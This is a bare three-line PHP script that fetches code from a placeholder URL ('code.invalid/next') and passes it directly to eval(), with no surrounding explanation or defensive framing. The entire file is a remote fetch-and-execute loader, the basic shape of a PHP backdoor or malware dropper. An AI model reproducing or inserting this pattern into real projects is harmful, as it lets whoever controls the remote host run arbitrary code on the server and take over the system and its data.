<?php
$code = file_get_contents('https://code.invalid/next');
eval($code);
